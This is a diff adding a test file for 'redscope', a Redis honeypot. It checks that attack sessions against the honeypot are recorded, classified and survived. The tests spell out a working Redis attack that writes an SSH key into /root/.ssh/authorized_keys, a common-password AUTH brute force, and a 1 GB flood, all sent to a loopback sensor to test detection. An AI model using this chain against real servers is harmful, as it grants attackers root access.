@@ -1,0 +1,308 @@
+/**
+ * `redscope honeypot` as an operator runs it: listeners, real clients and attack sessions over
+ * TCP on loopback, sessions and events in the store and JSONL, classified; and a flood that must
+ * not take the sensor down.
+ */
+import assert from "node:assert/strict";
+import { type ChildProcess, spawn } from "node:child_process";
+import { randomBytes } from "node:crypto";
+import fs from "node:fs";
+import net from "node:net";
+import os from "node:os";
+import path from "node:path";
+import { after, before, describe, test } from "node:test";
+import { openStore } from "../src/store/index.js";
+import { BIN, parseJsonl, runCli, watchRss } from "./helpers/cli.js";
+
+const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-honeypot-"));
+
+interface Running {
+  child: ChildProcess;
+  ports: Map<string, number>;
+  output: () => string;
+  stop: () => Promise<{ code: number | null; out: string }>;
+}
+
+/** Start the honeypot on kernel-chosen ports; resolves once every listener is up. */
+async function startHoneypot(args: string[]): Promise<Running> {
+  const child = spawn(process.execPath, [BIN, "honeypot", ...args], {
+    stdio: ["ignore", "pipe", "pipe"],
+  });
+  let out = "";
+  child.stdout!.on("data", (d) => (out += d));
+  child.stderr!.on("data", (d) => (out += d));
+  const listeners = args.filter((a) => a.includes(":0/")).length;
+  const deadline = Date.now() + 20_000;
+  while ((out.match(/listening on /g) ?? []).length < listeners) {
+    if (child.exitCode !== null || Date.now() > deadline) {
+      child.kill("SIGKILL");
+      throw new Error(`honeypot did not start: ${out}`);
+    }
+    await new Promise((r) => setTimeout(r, 50));
+  }
+  const ports = new Map<string, number>();
+  for (const m of out.matchAll(/listening on [\d.]+:(\d+) as (\S+)/g))
+    ports.set(m[2]!, Number(m[1]));
+  return {
+    child,
+    ports,
+    output: () => out,
+    stop: async () => {
+      const closed = new Promise<number | null>((r) => child.once("close", r));
+      child.kill("SIGTERM");
+      const code = await closed;
+      return { code, out };
+    },
+  };
+}
+
+/** One connection: send requests, collect everything until the server closes or `quietMs`. */
+function converse(port: number, requests: Buffer[], quietMs = 300): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const sock = net.connect({ host: "127.0.0.1", port });
+    let got = "";
+    let timer: NodeJS.Timeout | undefined;
+    const done = (): void => {
+      clearTimeout(timer);
+      sock.destroy();
+      resolve(got);
+    };
+    sock.on("data", (d) => {
+      got += d.toString("latin1");
+      clearTimeout(timer);
+      timer = setTimeout(done, quietMs);
+    });
+    sock.on("close", done);
+    sock.on("error", reject);
+    sock.on("connect", () => {
+      for (const r of requests) sock.write(r);
+      timer = setTimeout(done, quietMs * 3);
+    });
+  });
+}
+
+function resp(...args: string[]): Buffer {
+  return Buffer.from(
+    `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join("")}`,
+  );
+}
+
+after(() => fs.rmSync(tmp, { recursive: true, force: true }));
+
+/** A well-formed ssh-rsa public key blob (e = 65537, a random 2048-bit n), base64. */
+function sshRsaBlob(): string {
+  const field = (b: Buffer): Buffer => {
+    const len = Buffer.alloc(4);
+    len.writeUInt32BE(b.length);
+    return Buffer.concat([len, b]);
+  };
+  const n = Buffer.concat([Buffer.from([0]), randomBytes(256)]);
+  n[1] = (n[1] ?? 0) | 0x80;
+  return Buffer.concat([
+    field(Buffer.from("ssh-rsa")),
+    field(Buffer.from([1, 0, 1])),
+    field(n),
+  ]).toString("base64");
+}
+
+describe("redscope honeypot", () => {
+  const db = path.join(tmp, "hp.db");
+  const jsonl = path.join(tmp, "hp.jsonl");
+  let hp: Running;
+
+  before(async () => {
+    hp = await startHoneypot([
+      "--listen",
+      "127.0.0.1:0/redis-5.0-open",
+      "--listen",
+      "127.0.0.1:0/redis-7.4-password",
+      "--db",
+      db,
+      "-o",
+      jsonl,
+    ]);
+  });
+
+  test("an SSH-key write, a brute force and a scan are recorded and classified", async () => {
+    const open = hp.ports.get("redis-5.0-open")!;
+    const locked = hp.ports.get("redis-7.4-password")!;
+    const key = `ssh-rsa ${sshRsaBlob()} attacker@evil`;
+    const chain = await converse(open, [
+      resp("FLUSHALL"),
+      resp("SET", "crackit", `\n\n${key}\n\n`),
+      resp("CONFIG", "SET", "dir", "/root/.ssh"),
+      resp("CONFIG", "SET", "dbfilename", "authorized_keys"),
+      resp("SAVE"),
+      resp("QUIT"),
+    ]);
+    assert.equal(chain, "+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n");
+
+    const brute = await converse(
+      locked,
+      ["123456", "password", "redis", "admin", "foobared"].map((p) => resp("AUTH", p)),
+    );
+    assert.equal(
+      (brute.match(/-WRONGPASS invalid username-password pair or user is disabled\.\r\n/g) ?? [])
+        .length,
+      5,
+    );
+
+    // The project's own scanner sees a Redis 5.0.8 that answers everything.
+    const scan = await runCli([
+      "scan",
+      `127.0.0.1:${open}`,
+      "--allow-reserved",
+      "-q",
+      "--no-db",
+      "-o",
+      "-",
+      "--no-intel",
+    ]);
+    assert.equal(scan.code, 0, scan.stderr);
+    const [r] = parseJsonl(scan.stdout);
+    assert.equal(r?.state, "open");
+    assert.equal(r?.server?.version, "5.0.8");
+
+    const stopped = await hp.stop();
+    assert.equal(stopped.code, 0, stopped.out);
+    assert.match(stopped.out, /stopped: 3 sessions/);
+
+    const store = await openStore(db);
+    try {
+      const sessions = [];
+      for await (const s of store.honeypotSessions()) sessions.push(s);
+      assert.equal(sessions.length, 3);
+      const write = sessions.find((s) => s.persona === "redis-5.0-open" && s.commands === 6)!;
+      assert.match(write.classes, /file_write_ssh/);
+      assert.match(write.classes, /destructive|ransom/);
+      const rec = write.record as {
+        findings: Array<{ class: string; attack: string[] }>;
+        indicators: { ssh_keys: string[]; file_paths: string[] };
+      };
+      assert.deepEqual(rec.findings.find((f) => f.class === "file_write_ssh")?.attack, [
+        "T1098.004",
+      ]);
+      assert.equal(rec.indicators.ssh_keys.length, 1);
+      assert.ok(rec.indicators.file_paths.includes("/root/.ssh"), rec.indicators.file_paths.join());
+      const bf = sessions.find((s) => s.persona === "redis-7.4-password")!;
+      assert.match(bf.classes, /bruteforce/);
+      assert.deepEqual(
+        (bf.record as { indicators: { passwords: string[] } }).indicators.passwords,
+        ["123456", "password", "redis", "admin", "foobared"],
+      );
+      const probe = sessions.find((s) => s.persona === "redis-5.0-open" && s.commands !== 6)!;
+      assert.equal(probe.classes, "scan");
+      const events = await store.honeypotEvents(write.id);
+      assert.deepEqual(
+        events.filter((e) => e.kind === "command").map((e) => e.name),
+        ["FLUSHALL", "SET", "CONFIG", "CONFIG", "SAVE", "QUIT"],
+      );
+      assert.equal(events[0]?.kind, "connect");
+      assert.equal(events[events.length - 1]?.kind, "close");
+    } finally {
+      await store.close();
+    }
+    const lines = parseJsonl(fs.readFileSync(jsonl, "utf8")) as unknown as Array<{ type: string }>;
+    assert.ok(lines.some((l) => l.type === "session"));
+    assert.ok(lines.filter((l) => l.type === "event").length >= 15);
+  });
+});
+
+describe("redscope honeypot under a flood", () => {
+  test("1 GB of PUBLISH and huge SETs from one client; 1,000 others still answered; RSS bounded", async (t) => {
+    const db = path.join(tmp, "flood.db");
+    // Every visitor here comes from 127.0.0.1: the per-source cap is raised above the 51 at once.
+    const hp = await startHoneypot([
+      "--listen",
+      "127.0.0.1:0/redis-7.0-open",
+      "--db",
+      db,
+      "-q",
+      "--max-per-source",
+      "100",
+    ]);
+    const port = hp.ports.get("redis-7.0-open")!;
+    const rss = watchRss(hp.child.pid!);
+    try {
+      const chunk = Buffer.alloc(64 * 1024, 0x78);
+      const publish = Buffer.concat([
+        Buffer.from(`*3\r\n$7\r\nPUBLISH\r\n$4\r\nleak\r\n$${chunk.length}\r\n`),
+        chunk,
+        Buffer.from("\r\n"),
+      ]);
+      const bigSet = (i: number, size: number): Buffer[] => [
+        Buffer.from(`*3\r\n$3\r\nSET\r\n$3\r\nbig\r\n$${size}\r\n`.replace("big", `bg${i}`)),
+      ];
+      const TOTAL = 1024 * 1024 * 1024;
+      const flooder = new Promise<{ sent: number; publishes: number }>((resolve, reject) => {
+        const sock = net.connect({ host: "127.0.0.1", port });
+        let sent = 0;
+        let publishes = 0;
+        sock.on("error", reject);
+        // Replies are read and dropped: the flood is about input.
+        sock.on("data", () => {});
+        sock.on("connect", async () => {
+          // Four 100 MB values, streamed in 1 MB pieces.
+          for (let i = 0; i < 4; i++) {
+            const size = 100 * 1024 * 1024;
+            for (const b of bigSet(i, size)) sock.write(b);
+            const piece = Buffer.alloc(1024 * 1024, 0x41 + i);
+            for (let k = 0; k < 100; k++) {
+              if (!sock.write(piece)) await new Promise((r) => sock.once("drain", r));
+            }
+            sock.write("\r\n");
+            sent += size;
+          }
+          while (sent < TOTAL) {
+            if (!sock.write(publish)) await new Promise((r) => sock.once("drain", r));
+            sent += publish.length;
+            publishes++;
+          }
+          sock.end(resp("PING"));
+          sock.on("close", () => resolve({ sent, publishes }));
+        });
+      });
+      // Meanwhile 1,000 other visitors come and go, 50 at a time; each must get its PONG.
+      let answered = 0;
+      for (let wave = 0; wave < 20; wave++) {
+        const replies = await Promise.all(
+          Array.from({ length: 50 }, () => converse(port, [resp("PING")], 100)),
+        );
+        answered += replies.filter((r) => r.startsWith("+PONG\r\n")).length;
+      }
+      const { publishes } = await flooder;
+      assert.equal(answered, 1000, "every other visitor was answered during the flood");
+      const stopped = await hp.stop();
+      assert.equal(stopped.code, 0, stopped.out);
+      const peak = rss.stop();
+      t.diagnostic(`peak RSS ${Math.round(peak / 1048576)} MB, ${publishes} PUBLISH of 64 KB`);
+      assert.ok(peak < 300 * 1024 * 1024, `peak RSS ${Math.round(peak / 1048576)} MB < 300 MB`);
+
+      const store = await openStore(db);
+      try {
+        const sessions = [];
+        for await (const s of store.honeypotSessions()) sessions.push(s);
+        assert.equal(sessions.length, 1001);
+        const flood = sessions.find((s) => s.commands > 1000)!;
+        assert.equal(flood.commands, publishes + 4 + 1, "every command counted");
+        assert.ok(flood.bytesIn >= TOTAL);
+        assert.match(flood.classes, /exfiltration/);
+        const events = await store.honeypotEvents(flood.id);
+        assert.equal(
+          events.filter((e) => e.kind === "command").length,
+          flood.commands,
+          "every command recorded as an event",
+        );
+        const set = events.find((e) => e.name === "SET")!;
+        const rec = set.record as { lengths: number[]; sha256: Array<string | null> };
+        assert.equal(rec.lengths[1], 100 * 1024 * 1024, "the full length is kept");
+        assert.match(rec.sha256[1] ?? "", /^[0-9a-f]{64}$/, "and the hash of the whole value");
+      } finally {
+        await store.close();
+      }
+    } finally {
+      rss.stop();
+      if (hp.child.exitCode === null) hp.child.kill("SIGKILL");
+    }
+  });
+});
